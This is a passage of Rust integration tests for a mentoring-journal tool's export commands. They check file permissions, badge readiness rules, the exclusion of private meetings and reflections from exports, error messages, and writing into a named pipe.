    // Written again over a readable file, it is private again, and nothing else is left behind.
    fs::set_permissions(&html, fs::Permissions::from_mode(0o644)).unwrap();
    stdout_of(
        j.dir(),
        &[
            "export",
            "ics",
            "--with",
            "sam",
            "-o",
            html.to_str().unwrap(),
        ],
    );
    assert_eq!(
        fs::metadata(&html).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(
        fs::read_to_string(&html)
            .unwrap()
            .starts_with("BEGIN:VCALENDAR\r\n")
    );
    let names: Vec<_> = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 1, "{names:?}");
    // Markdown for any other name.
    let md = out.join("sam.md");
    stdout_of(
        j.dir(),
        &[
            "export",
            "portfolio",
            "--with",
            "sam",
            "-o",
            md.to_str().unwrap(),
        ],
    );
    assert!(
        fs::read_to_string(&md)
            .unwrap()
            .starts_with("# Learning Journal")
    );
}

#[test]
fn the_command_refuses_a_badge_that_is_not_ready() {
    let j = Journalled::new(&[sam]);
    let a = ml(j.dir())
        .args(["export", "badge", "--with", "sam"])
        .assert()
        .failure();
    let o = a.get_output();
    assert!(o.stdout.is_empty(), "nothing on stdout");
    let err = String::from_utf8(o.stderr.clone()).unwrap();
    assert!(
        err.contains("error: no badge: not yet ready for ScotELAs mentoring recognition"),
        "{err}"
    );
    for rule in [
        "[ ] Mentoring agreement done",
        "[ ] Two reflections from each side",
        "[ ] Evaluation done",
    ] {
        assert!(err.contains(rule), "missing {rule:?} in:\n{err}");
    }
    // A refused badge writes no file.
    let file = j.dir().parent().unwrap().join("badge.json");
    ml(j.dir())
        .args(["export", "badge", "--with", "sam", "-o"])
        .arg(&file)
        .assert()
        .failure();
    assert!(!file.exists());
}

#[test]
fn the_command_issues_a_badge_to_a_ready_partnership() {
    let j = Journalled::new(&[priya]);
    let v: Value =
        serde_json::from_str(&stdout_of(j.dir(), &["export", "badge", "--with", "priya"])).unwrap();
    assert_ob3(&v);
}

#[test]
fn the_command_in_review_mode_leaves_the_private_meeting_out() {
    let j = Journalled::new(&[sam]);
    for args in [
        vec!["export", "portfolio", "--with", "sam"],
        vec!["export", "portfolio", "--with", "sam", "--format", "html"],
        vec!["export", "csv", "--with", "sam", "--table", "meetings"],
        vec!["export", "csv", "--with", "sam", "--table", "ticks"],
        vec!["export", "ics", "--with", "sam"],
        vec!["export", "json", "--with", "sam"],
    ] {
        let mut with_review = vec!["--review"];
        with_review.extend_from_slice(&args);
        let text = stdout_of(j.dir(), &with_review);
        for word in PRIVATE_WORDS {
            assert!(!text.contains(word), "{word} in {args:?} --review");
        }
    }
    // And with --include-private (without --review), the notes are there.
    let text = stdout_of(
        j.dir(),
        &["export", "ics", "--with", "sam", "--include-private"],
    );
    assert!(text.contains("PRIVATE-NOTE"));
}

#[test]
fn every_export_leaves_private_records_out_unless_asked() {
    let j = Journalled::new(&[sam]);
    let kinds = [
        vec!["export", "portfolio", "--with", "sam"],
        vec!["export", "portfolio", "--with", "sam", "--format", "html"],
        vec!["export", "csv", "--with", "sam", "--table", "meetings"],
        vec!["export", "csv", "--with", "sam", "--table", "ticks"],
        vec!["export", "csv", "--with", "sam", "--table", "goals"],
        vec!["export", "ics", "--with", "sam"],
        vec!["export", "json", "--with", "sam"],
        vec![
            "export",
            "badge",
            "--with",
            "sam",
            "--stage",
            "induction-stages/developing",
        ],
    ];
    for args in &kinds {
        let text = stdout_of(j.dir(), args);
        for word in PRIVATE_WORDS {
            assert!(!text.contains(word), "{word} in {args:?} without a flag");
        }
    }
    // The owner asks for them by name.
    for (args, word) in [
        (&kinds[0], "PRIVATE-NOTE"),
        (&kinds[0], "PRIVATE-REFLECTION"),
        (&kinds[1], "PRIVATE-NOTE"),
        (&kinds[2], "PRIVATE-NOTE"),
        (&kinds[5], "PRIVATE-NOTE"),
        (&kinds[6], "PRIVATE-REFLECTION"),
    ] {
        let mut args = args.clone();
        args.push("--include-private");
        assert!(stdout_of(j.dir(), &args).contains(word), "{word}: {args:?}");
    }
    // A badge never cites them, and --include-private contradicts --review.
    for args in [
        vec!["export", "badge", "--with", "sam", "--include-private"],
        vec![
            "--review",
            "export",
            "json",
            "--with",
            "sam",
            "--include-private",
        ],
    ] {
        let a = ml(j.dir()).args(&args).assert().failure();
        let err = String::from_utf8(a.get_output().stderr.clone()).unwrap();
        assert!(err.contains("--include-private"), "{args:?}: {err}");
        assert!(a.get_output().stdout.is_empty());
    }
    // Written to a file, the command says how many were left out, except in review mode
    // (a screen shown to someone), where it does not count them.
    let file = j.dir().parent().unwrap().join("p.md");
    let file = file.to_str().unwrap();
    let said = stdout_of(
        j.dir(),
        &["export", "portfolio", "--with", "sam", "-o", file],
    );
    assert!(
        said.contains("(1 private meeting and 1 private reflection left out"),
        "{said}"
    );
    let said = stdout_of(
        j.dir(),
        &[
            "--review",
            "export",
            "portfolio",
            "--with",
            "sam",
            "-o",
            file,
        ],
    );
    assert!(
        said.contains("(review copy: private meetings and reflections left out)"),
        "{said}"
    );
    assert!(!said.contains("1 private"), "{said}");
    // The help says so.
    let help = stdout_of(j.dir(), &["export", "--help"]);
    assert!(help.contains("--include-private"), "{help}");
    assert!(help.contains("left out of every export"), "{help}");
}

#[test]
fn the_demos_private_meeting_reaches_no_export_and_no_badge() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("j");
    ml(&dir).arg("demo").assert().success();
    // The demo's one private meeting (its file is named DATE-ID.ron), in Jo's private folder.
    let private = "agreed to keep this between us";
    let file = fs::read_dir(dir.join("private/jo-taylor/partnerships/sam-lee/meetings"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| fs::read_to_string(p).unwrap().contains("private: true"))
        .expect("the demo has a private meeting");
    assert!(fs::read_to_string(&file).unwrap().contains(private));
    let stem = file.file_stem().unwrap().to_str().unwrap().to_string();
    let (date, id) = (&stem[..10], &stem[11..]);
    for args in [
        vec!["export", "portfolio", "--with", "sam"],
        vec!["export", "portfolio", "--with", "sam", "--format", "html"],
        vec!["export", "csv", "--with", "sam", "--table", "meetings"],
        vec!["export", "csv", "--with", "sam", "--table", "ticks"],
        vec!["export", "ics", "--with", "sam"],
        vec!["export", "json", "--with", "sam"],
        vec!["export", "badge", "--with", "sam"],
        vec![
            "export",
            "badge",
            "--with",
            "sam",
            "--stage",
            "ljmu/developing",
        ],
    ] {
        let text = stdout_of(&dir, &args);
        assert!(!text.contains(private), "{args:?}");
        assert!(!text.contains(id), "{args:?}");
        assert!(!text.contains(&format!("meeting of {date}")), "{args:?}");
    }
    let mut args = vec!["export", "ics", "--with", "sam", "--include-private"];
    assert!(stdout_of(&dir, &args).contains(id));
    args[1] = "json";
    assert!(stdout_of(&dir, &args).contains(private));
}

#[test]
fn the_command_explains_an_unknown_partner_or_stage() {
    let j = Journalled::new(&[sam]);
    let a = ml(j.dir())
        .args(["export", "json", "--with", "nobody"])
        .assert()
        .failure();
    let err = String::from_utf8(a.get_output().stderr.clone()).unwrap();
    assert!(err.contains("no partnership matches 'nobody'"), "{err}");
    let a = ml(j.dir())
        .args([
            "export",
            "badge",
            "--with",
            "sam",
            "--stage",
            "ljmu/advanced",
        ])
        .assert()
        .failure();
    let err = String::from_utf8(a.get_output().stderr.clone()).unwrap();
    assert!(err.contains("no recognition 'ljmu/advanced'"), "{err}");
    let a = ml(j.dir())
        .args(["export", "pdf", "--with", "sam"])
        .assert()
        .failure();
    let err = String::from_utf8(a.get_output().stderr.clone()).unwrap();
    assert!(err.contains("portfolio"), "{err}");
}

/// `-o` naming a pipe or device (`/dev/stdout`, `/dev/null`) writes into it: renaming the
/// export over it would leave a plain file where the device was.
#[cfg(unix)]
#[test]
fn an_export_to_a_pipe_writes_into_it_and_leaves_it_a_pipe() {
    use std::os::unix::fs::FileTypeExt;
    let j = Journalled::new(&[sam]);
    let t = tempfile::tempdir().unwrap();
    let fifo = t.path().join("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).unwrap())
    };
    ml(j.dir())
        .args(["export", "json", "--with", "sam", "-o"])
        .arg(&fifo)
        .assert()
        .success();
    // Before joining: a reader on a pipe that was replaced would wait for ever.
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    let got = reader.join().unwrap();
    assert!(got.contains("\"Sam Lee\""), "{got}");
}
